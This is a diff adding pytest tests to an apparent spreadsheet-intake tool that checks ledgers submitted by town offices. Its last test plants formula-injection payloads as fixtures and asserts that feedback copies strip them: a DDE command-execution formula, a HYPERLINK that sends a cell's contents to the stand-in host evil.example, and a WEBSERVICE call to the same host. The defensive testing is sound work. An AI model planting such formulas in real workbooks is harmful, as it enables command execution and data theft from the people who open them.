@@ -181,3 +181,113 @@ def test_ingest_api_goes_on_after_a_worker_dies(workspace: Path, tmp_path: Path)
     batch = ingest(ws, files, workers=2)
     assert [r.report.status for r in batch.results] == ["accepted", "unreadable"] + ["accepted"] * 4
     assert all(r.submission_id for r in batch.results)
+
+
+def test_a_feedback_that_cannot_be_made_is_a_finding(workspace: Path, tmp_path: Path, run) -> None:  # type: ignore[no-untyped-def]
+    from fedxl.store import Store
+    from fedxl.submissions.feedback import feedback_bytes, has_feedback
+
+    pivots = DATA / "external" / "pivots.xlsx"  # calamine's test file: openpyxl cannot open it
+    checked = run("check", str(pivots), str(GOOD), "--annotate", "--json", "-w", str(workspace))
+    files = checked.json()["files"]
+    assert [f["status"] for f in files] == ["rejected", "accepted"]  # the batch went on, stdout is JSON
+    assert [f["code"] for f in files[0]["findings"]] == ["form-unknown", "feedback-failed"]
+    ws = Workspace(workspace)
+    batch = ingest(ws, [pivots])
+    assert "feedback-failed" in [f.code for f in batch.results[0].report.findings]
+    with Store(ws.db_path, ws.form) as store:
+        sub = store.get(batch.results[0].submission_id)
+    assert sub is not None and not has_feedback(ws, sub)  # no download offered
+    assert feedback_bytes(ws, sub) is None
+
+
+def test_the_intake_survives_the_poison_and_restarts_at_once(tmp_path: Path) -> None:
+    pytest.importorskip("starlette")
+    pytest.importorskip("uvicorn")
+    httpx = pytest.importorskip("httpx")
+    from conftest import intake_workspace, start_server, stop_server
+
+    root = intake_workspace(tmp_path / "ws", uploads_per_minute=1000)
+    ws = Workspace(root)
+    good = _ledgers(ws, tmp_path)[0]  # 头道桥街道
+    server = start_server(root)
+    token = server.token("头道桥街道")
+    auth = {"Authorization": f"Bearer {token}"}
+
+    def send(path: Path):  # type: ignore[no-untyped-def]
+        with open(path, "rb") as fh:
+            return httpx.post(server.base + "/api/submissions", headers=auth, timeout=60,
+                              files={"file": (path.name, fh, "application/octet-stream")})
+    try:
+        bad = send(lying_dimension(tmp_path))
+        assert bad.status_code == 200, bad.text
+        assert bad.json()["files"][0]["status"] == "unreadable" and "feedback_url" not in bad.json()["files"][0]
+        ok = send(good)
+        assert ok.status_code == 200 and ok.json()["files"][0]["status"] == "accepted"
+        odd = send(DATA / "external" / "pivots.xlsx")  # findings, but no marked copy can be made
+        assert odd.status_code == 200 and "feedback_url" not in odd.json()["files"][0]
+        sid = odd.json()["files"][0]["submission_id"]
+        page = httpx.get(f"{server.base}/t/{token}/feedback/{sid}", timeout=30)
+        assert page.status_code == 404 and "text/html" in page.headers["content-type"]
+        assert httpx.get(server.base + "/healthz", timeout=5).status_code == 200
+    finally:
+        stop_server(server)
+    started = time.monotonic()
+    again = start_server(root)  # nothing is left to take in at start-up: up at once
+    try:
+        assert time.monotonic() - started < 20
+        assert not list((ws.workbooks / "uploads").glob("*.upload"))
+        from fedxl.store import Store
+
+        with Store(ws.db_path, ws.form) as store:
+            states = sorted(s.status for s in store.submissions())
+        assert states == ["accepted", "rejected", "unreadable"]
+    finally:
+        stop_server(again)
+
+
+def test_a_name_of_sixty_emoji_is_recorded_under_a_bounded_path(workspace: Path, tmp_path: Path) -> None:
+    from fedxl.checking import Origin
+    from fedxl.store import Store
+
+    ws = Workspace(workspace)
+    name = "😀" * 60 + ".xlsx"  # 245 bytes: the archive's prefix would take it over ext4's 255
+    ledgers = _ledgers(ws, tmp_path)
+    dropped = ws.folder("inbox") / name
+    shutil.copy(ledgers[0], dropped)
+    uploaded = tmp_path / "x.upload"
+    shutil.copy(ledgers[1], uploaded)
+    batch = ingest(ws, [dropped, uploaded], origins={uploaded: Origin("🙂" * 60 + ".xls", "二道河街道")})
+    assert [r.report.status for r in batch.results] == ["accepted", "accepted"]
+    with Store(ws.db_path, ws.form) as store:
+        subs = store.submissions()
+    assert [s.original_name for s in subs] == [name, "🙂" * 60 + ".xls"]  # shown to people as sent
+    for sub in subs:
+        archived = ws.root / sub.archive_path
+        assert archived.is_file() and len(archived.name.encode()) <= 200
+    assert not dropped.exists()
+
+
+def test_feedback_copies_keep_no_live_external_formula(workspace: Path, tmp_path: Path) -> None:
+    import openpyxl
+
+    from fedxl.feedback import write_feedback_file
+
+    wb = openpyxl.load_workbook(GOOD)
+    roster = wb["妇委会名录"]
+    roster["R3"] = "=cmd|' /C calc'!A0"
+    roster["R4"] = '=HYPERLINK("http://evil.example/?"&B3,"点这里")'
+    roster["R5"] = "=SUM(G3:G4)"
+    wb.create_sheet("说明")["A1"] = "=WEBSERVICE(\"http://evil.example/\")"
+    source = tmp_path / "dde.xlsx"
+    wb.save(source)
+    ws = Workspace(workspace)
+    report = check_file(source, CheckContext(ws.form, ws.config))
+    said = {f.cell for f in report.findings if f.code == "normalized" and f.sheet == "妇委会名录"}
+    assert {"R3", "R4"} <= said and "R5" not in said
+    out = write_feedback_file(source, report, tmp_path / "fb.xlsx")
+    copy = openpyxl.load_workbook(out)
+    formulas = [c.value for sheet in copy.worksheets for row in sheet.iter_rows() for c in row
+                if c.data_type == "f"]
+    assert formulas == ["=SUM(G3:G4)"]  # the town's own formula stays
+    assert copy["妇委会名录"]["R3"].data_type != "f" and copy["说明"]["A1"].data_type != "f"
